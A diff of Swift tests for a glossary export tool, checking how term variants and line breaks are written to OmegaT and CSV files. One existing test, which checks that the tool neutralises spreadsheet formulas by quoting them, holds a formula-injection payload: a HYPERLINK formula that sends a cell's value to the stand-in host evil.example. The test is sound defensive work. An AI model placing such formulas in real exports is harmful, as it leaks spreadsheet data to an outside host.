@@ -25,7 +25,8 @@ import Testing
 
         """
 
-    static func folder() throws -> TemporaryFolder {
+    /// A collection in kk, ru and en (from ru) with `glossary`.
+    static func folder(glossary: String = glossary) throws -> TemporaryFolder {
         let folder = try TemporaryFolder()
         try folder.write("Captions/captions.yml", "languages: [kk, ru, en]\nsource: ru\n")
         try folder.write("Captions/glossary.yml", glossary)
@@ -45,8 +46,8 @@ import Testing
         let en = try folder.read("Exports/glossary/ru-en.utf8")
         #expect(
             en == """
-                Арка скорби\tArch of Sorrow\tdo not use: Arch of Grief; The monument at the entrance.
-                арка Скорби\tArch of Sorrow\tdo not use: Arch of Grief; The monument at the entrance.
+                Арка скорби\tArch of Sorrow\tdo not use: "Arch of Grief"; The monument at the entrance.
+                арка Скорби\tArch of Sorrow\tdo not use: "Arch of Grief"; The monument at the entrance.
                 АЛЖИР\tALZHIR\tDo not translate: keep the term as it is.
                 курт\tkurt\tDried cheese, salty; keep the word
 
@@ -71,11 +72,80 @@ import Testing
         #expect(
             try folder.read("Exports/glossary/glossary.csv") == """
                 id,ru,en,forbidden ru,forbidden en,note,do-not-translate\r
-                arch-of-sorrow,Арка скорби | арка Скорби,Arch of Sorrow,,Arch of Grief,The monument at the entrance.,\r
+                arch-of-sorrow,"Арка скорби
+                арка Скорби",Arch of Sorrow,,Arch of Grief,The monument at the entrance.,\r
                 alzhir,АЛЖИР,ALZHIR,,,,yes\r
                 kurt,курт,kurt,,,"Dried cheese, salty; keep the word",\r
 
                 """)
+    }
+
+    /// Terms that hold what once separated variants (`, ` in OmegaT, ` | ` in CSV), and one that
+    /// holds a line break.
+    static let separators = """
+        - id: karlag
+          ru: ["Карлаг, Долинка", Карлаг]
+          kk: "Қарлаг\\nлагері"
+          en: ["Karlag, Dolinka", "A | B"]
+          forbidden: { en: ["Karlag | Dolinka", "Dolinka, Karlag"] }
+          note: "Two camps, one system"
+
+        """
+
+    /// OmegaT: a line per source and target variant (OmegaT reads each line as a term of its
+    /// own); the forbidden terms in quotes.
+    @Test func omegatGivesEveryVariantALineOfItsOwn() throws {
+        let folder = try Self.folder(glossary: Self.separators)
+        let run = try CLIRun.run(["export", "glossary", "--format", "omegat"], in: folder.path)
+        #expect(run.status == 0, "\(run.stderr)")
+        let comment = "do not use: \"Karlag | Dolinka\", \"Dolinka, Karlag\"; Two camps, one system"
+        #expect(
+            try folder.read("Exports/glossary/ru-en.utf8") == """
+                Карлаг, Долинка\tKarlag, Dolinka\t\(comment)
+                Карлаг, Долинка\tA | B\t\(comment)
+                Карлаг\tKarlag, Dolinka\t\(comment)
+                Карлаг\tA | B\t\(comment)
+
+                """)
+        #expect(
+            try folder.read("Exports/glossary/ru-kk.utf8") == """
+                Карлаг, Долинка\tҚарлаг лагері\tTwo camps, one system
+                Карлаг\tҚарлаг лагері\tTwo camps, one system
+
+                """)
+    }
+
+    /// CSV: a cell's variants one a line, which a spreadsheet shows in the cell and any CSV reader
+    /// gives back (here Python's); a line break inside a term becomes a space.
+    @Test func csvPutsEachVariantOnALineOfItsCell() throws {
+        let folder = try Self.folder(glossary: Self.separators)
+        let run = try CLIRun.run(["export", "glossary", "--format", "csv"], in: folder.path)
+        #expect(run.status == 0, "\(run.stderr)")
+        let bytes = try Data(contentsOf: URL(fileURLWithPath: folder.path + "/Exports/glossary/glossary.csv"))
+        #expect(
+            bytes
+                == Data(
+                    ("\u{FEFF}id,ru,kk,en,forbidden ru,forbidden kk,forbidden en,note,do-not-translate\r\n"
+                        + "karlag,\"Карлаг, Долинка\nКарлаг\",Қарлаг лагері,\"Karlag, Dolinka\nA | B\",,,"
+                        + "\"Karlag | Dolinka\nDolinka, Karlag\",\"Two camps, one system\",\r\n").utf8))
+        let read = try runTool(
+            "python3",
+            [
+                "-c",
+                """
+                import csv, json, sys
+                with open(sys.argv[1], newline="", encoding="utf-8-sig") as f:
+                    print(json.dumps([[cell.split("\\n") for cell in row] for row in csv.reader(f)]))
+                """,
+                "Exports/glossary/glossary.csv",
+            ], in: folder.path)
+        #expect(read.status == 0, "\(read.output)")
+        let cells = try JSONDecoder().decode([[[String]]].self, from: Data(read.output.utf8))
+        #expect(
+            cells.last == [
+                ["karlag"], ["Карлаг, Долинка", "Карлаг"], ["Қарлаг лагері"], ["Karlag, Dolinka", "A | B"], [""], [""],
+                ["Karlag | Dolinka", "Dolinka, Karlag"], ["Two camps, one system"], [""],
+            ])
     }
 
     /// A glossary merged from an untrusted TBX may hold formulas: a spreadsheet shows them as text.
@@ -96,7 +166,7 @@ import Testing
         let csv = try folder.read("Exports/glossary/glossary.csv")
         #expect(
             csv.split(separator: "\r\n").dropFirst().first
-                == "formula,инъекция,'=1+2 | @SUM(A1:A2) | +7 | -1 | plain,,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","
+                == "formula,инъекция,\"'=1+2\n@SUM(A1:A2)\n+7\n-1\nplain\",,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","
         )
     }
 
